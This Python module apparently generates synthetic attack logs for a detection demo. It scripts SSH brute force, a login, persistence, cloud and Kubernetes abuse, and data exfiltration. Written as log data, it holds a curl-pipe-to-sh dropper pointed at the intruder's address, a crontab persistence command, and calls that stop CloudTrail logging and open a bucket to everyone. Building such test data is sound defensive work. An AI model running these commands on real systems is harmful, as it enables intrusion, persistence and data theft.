"""The attack in the logs: a guessed password, a foothold, a look around the cloud, data leaving.

Every line is written by the same functions as the ordinary ones; only what it says gives it away.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

from stream_processors.demo.scenario import cast, cloudtrail, kubernetes, linux, network, winlog
from stream_processors.demo.scenario.draw import Draw
from stream_processors.demo.scenario.moment import Moment

_GUESSES = ("admin", "oracle", "test", "ubuntu", "postgres", "guest", "git", "hadoop", "minecraft", "pi")
_BASE32 = "abcdefghijklmnopqrstuvwxyz234567"
_UNITS = ("kworker-sync", "dbus-helperd", "netplan-cached")
_TUNNELS = ("t.sync-telemetry.example.net", "ns7.edge-metrics.example.org", "q.cdn-beacon.example.net")
_DROPS = ("dropzone-7731-example", "xfer-node-cache-example", "tmp-bundle-sync-example")
_OLD_BOTO = "Boto3/1.9.42 Python/2.7.18 Linux/5.10.0-kali9-amd64 Botocore/1.12.42"
_LARGE = (900_000_000, 4_200_000_000)


@dataclass(frozen=True, slots=True)
class Intrusion:
    """What stays the same through one story: where it comes from, what it takes over, what it leaves."""

    address: str
    account: cast.Account
    host: cast.Host
    pid: int
    unit: str
    tunnel: str
    drop: str
    cloud: cloudtrail.Caller
    cluster: kubernetes.User

    @classmethod
    def draw(cls, draw: Draw) -> Intrusion:
        """Cast the roles of one story."""
        address = draw.pick(cast.INTRUDERS)
        account = draw.pick(cast.SERVICE_ACCOUNTS)
        return cls(
            address=address,
            account=account,
            host=draw.pick(cast.LINUX),
            pid=draw.between(9_000, 60_000),
            unit=draw.pick(_UNITS),
            tunnel=draw.pick(_TUNNELS),
            drop=draw.pick(_DROPS),
            cloud=cloudtrail.Caller(account.login, None, address, _OLD_BOTO),
            cluster=kubernetes.service_account("shop", "cart", "curl/8.5.0", address),
        )


BeatWriter = Callable[[Draw, Moment, Intrusion], str]


@dataclass(frozen=True, slots=True)
class Beat:
    """A kind of line of the story: how often it comes, in full and in the short version for small streams."""

    step: str
    template: str
    times: int
    short: int
    write: BeatWriter

    @property
    def system(self) -> str:
        """The log source that the line appears in."""
        return self.template.partition(".")[0]


def _sshd(message: Callable[[Draw, Intrusion], str], priority: int = linux.AUTH_INFO) -> BeatWriter:
    def write(draw: Draw, now: Moment, it: Intrusion) -> str:
        return linux.sshd_line(now, it.host.name, it.pid, message(draw, it), priority)

    return write


def _guess(login: Callable[[Draw, Intrusion], str]) -> BeatWriter:
    def write(draw: Draw, now: Moment, it: Intrusion) -> str:
        # Each guess is a connection, and so a process and a port, of its own.
        message = linux.failed_password(login(draw, it), it.address, linux.port(draw))
        return linux.sshd_line(now, it.host.name, it.pid - draw.between(2, 90), message)

    return write


_guess_invalid = _guess(lambda draw, _: f"invalid user {draw.pick(_GUESSES)}")
_guess_root = _guess(lambda draw, _: "root")
_guess_account = _guess(lambda draw, it: it.account.login)


def _give_up(draw: Draw, it: Intrusion) -> str:
    at = f"root from {it.address} port {linux.port(draw)} ssh2 [preauth]"
    return f"error: maximum authentication attempts exceeded for {at}"


def _audited_failure(draw: Draw, now: Moment, it: Intrusion) -> str:
    message = f'op=login acct="{it.account.login}" {linux.remote(it.address, result="failed")}'
    return linux.user_message(draw, now, "USER_LOGIN", 4294967295, message)


def _pam(kind: str, operation: str) -> BeatWriter:
    def write(draw: Draw, now: Moment, it: Intrusion) -> str:
        message = linux.pam_message(operation, it.account, linux.remote(it.address))
        return linux.user_message(draw, now, kind, it.account.uid, message)

    return write


def _audited_login(draw: Draw, now: Moment, it: Intrusion) -> str:
    message = f"op=login id={it.account.uid} {linux.remote(it.address, '/dev/pts/7')}"
    return linux.user_message(draw, now, "USER_LOGIN", it.account.uid, message)


def _dropper(_: Draw, now: Moment, it: Intrusion) -> str:
    return linux.execve(now, ("sh", "-c", f"curl -fsSL http://{it.address}:8080/{it.unit}.sh | sh"))


def _dropper_call(draw: Draw, now: Moment, it: Intrusion) -> str:
    return linux.syscall(draw, now, it.account.uid, (it.unit[:15], f"/tmp/.{it.unit}"), key="rootcmd")


def _unit_started(draw: Draw, now: Moment, it: Intrusion) -> str:
    return linux.service_start(draw, now, it.unit)


def _crontab(_: Draw, now: Moment, it: Intrusion) -> str:
    return linux.execve(now, ("sh", "-c", f"(crontab -l; echo '*/5 * * * * /tmp/.{it.unit} -q') | crontab -"))


def _windows_service(_: Draw, now: Moment, it: Intrusion) -> str:
    data = winlog.service_fields(it.unit, rf"%COMSPEC% /Q /c C:\Windows\Temp\{it.unit}.exe -s {it.address}")
    return winlog.event_line(now, winlog.SERVICE_INSTALLED, "FS-01", data)


def _windows_service_audited(_: Draw, now: Moment, it: Intrusion) -> str:
    data = {
        **winlog.system_fields("FS-01"),
        "ServiceName": it.unit,
        "ServiceFileName": rf"C:\Windows\Temp\{it.unit}.exe",
        "ServiceType": "0x10",
        "ServiceStartType": "2",
        "ServiceAccount": "LocalSystem",
    }
    return winlog.event_line(now, winlog.AUDITED_SERVICE_INSTALLED, "FS-01", data)


def _api(api: str, parameters: Callable[[Intrusion], cloudtrail.Parameters]) -> BeatWriter:
    def write(draw: Draw, now: Moment, it: Intrusion) -> str:
        return cloudtrail.record_line(
            draw, now, it.cloud, api=api, parameters=parameters(it), read_only=":List" in api
        )

    return write


_create_key = _api("iam:CreateAccessKey", lambda it: {"userName": "breakglass-admin"})
_stop_logging = _api("cloudtrail:StopLogging", lambda it: {"name": "org-trail"})
_list_secrets = _api("secretsmanager:ListSecrets", lambda it: {"maxResults": 100})


def _open_bucket(it: Intrusion) -> cloudtrail.Parameters:
    statement = {"Effect": "Allow", "Principal": "*", "Action": "s3:*"}
    return {"bucketName": cast.BUCKETS[-1], "bucketPolicy": {"Statement": [statement]}}


def _cluster(request: kubernetes.Request, annotations: dict[str, str] | None = None) -> BeatWriter:
    def write(draw: Draw, now: Moment, it: Intrusion) -> str:
        return kubernetes.audit_event(draw, now, it.cluster, request, annotations or {})

    return write


_all_secrets = _cluster(kubernetes.Request("list", "secrets"))
_exec = _cluster(
    kubernetes.Request("create", "pods", "kube-system", "etcd-node-1", subresource="exec", code=101)
)
_privileged_pod = _cluster(
    kubernetes.Request("create", "pods", "kube-system", "node-debugger-hostpid"),
    {"pod-security.kubernetes.io/enforce-policy": "privileged:latest"},
)


def _download(draw: Draw, now: Moment, it: Intrusion) -> str:
    dump = draw.pick(("customers-full.sql.gz", "orders-2019-2025.tar.gz", "ledger-full.dump"))
    request = f"GET /exports/.cache/{it.unit}/{dump}"
    size = draw.between(*_LARGE)
    return network.access_line(now, it.address, request, status=200, size=size, agent="curl/8.5.0")


def _tunnel(draw: Draw, now: Moment, it: Intrusion) -> str:
    labels = ".".join(draw.text(_BASE32, draw.between(48, 62)) for _ in range(3))
    return network.query_line(draw, now, it.host.address, f"{labels}.{it.tunnel}", "TXT")


def _upload(draw: Draw, now: Moment, it: Intrusion) -> str:
    parameters = {"bucketName": it.drop, "key": f"a/{it.host.name}/full.7z.{draw.between(1, 9):03d}"}
    extra = {
        "additionalEventData": {"bytesTransferredIn": draw.between(*_LARGE)},
        "resources": [{"type": "AWS::S3::Bucket", "accountId": cast.FOREIGN_AWS_ACCOUNT}],
    }
    return cloudtrail.record_line(
        draw, now, it.cloud, api="s3:PutObject", parameters=parameters, read_only=False, extra=extra
    )


_BEATS = (
    Beat("brute_force", "sshd.failed_password_invalid_user", 4, 3, _guess_invalid),
    Beat("brute_force", "sshd.failed_password", 3, 1, _guess_root),
    Beat("brute_force", "sshd.too_many_failures", 1, 0, _sshd(_give_up, 35)),
    Beat("brute_force", "sshd.failed_password_invalid_user", 3, 0, _guess_invalid),
    Beat("brute_force", "auditd.user_login_failed", 1, 0, _audited_failure),
    Beat("brute_force", "sshd.failed_password", 3, 2, _guess_account),
    Beat(
        "success",
        "sshd.accepted_password",
        1,
        1,
        _sshd(lambda draw, it: linux.accepted_password(it.account.login, it.address, linux.port(draw))),
    ),
    Beat("success", "auditd.cred_acq", 1, 0, _pam("CRED_ACQ", "PAM:setcred grantors=pam_permit")),
    Beat(
        "success",
        "sshd.session_opened",
        1,
        1,
        _sshd(lambda _, it: linux.session_opened(it.account), linux.AUTHPRIV_INFO),
    ),
    Beat("success", "auditd.user_login", 1, 1, _audited_login),
    Beat("new_service", "auditd.execve", 1, 1, _dropper),
    Beat("new_service", "auditd.syscall", 1, 0, _dropper_call),
    Beat("new_service", "auditd.service_start", 1, 1, _unit_started),
    Beat("new_service", "auditd.execve", 1, 0, _crontab),
    Beat("new_service", "windows.7045", 1, 1, _windows_service),
    Beat("new_service", "windows.4697", 1, 0, _windows_service_audited),
    Beat("odd_api", "cloudtrail.CreateAccessKey", 1, 1, _create_key),
    Beat("odd_api", "cloudtrail.StopLogging", 1, 1, _stop_logging),
    Beat("odd_api", "cloudtrail.ListSecrets", 1, 0, _list_secrets),
    Beat("odd_api", "kubernetes.list_secrets", 1, 0, _all_secrets),
    Beat("odd_api", "kubernetes.exec_pod", 1, 0, _exec),
    Beat("odd_api", "kubernetes.create_privileged_pod", 1, 1, _privileged_pod),
    Beat("odd_api", "cloudtrail.PutBucketPolicy", 1, 0, _api("s3:PutBucketPolicy", _open_bucket)),
    Beat("exfiltration", "nginx.hidden_export", 2, 1, _download),
    Beat("exfiltration", "dns.txt_tunnel", 4, 2, _tunnel),
    Beat("exfiltration", "cloudtrail.PutObject", 1, 1, _upload),
)


def story(*, short: bool) -> Iterator[Beat]:
    """Yield the lines of the story in order, the short version for streams with little room."""
    for beat in _BEATS:
        for _ in range(beat.short if short else beat.times):
            yield beat
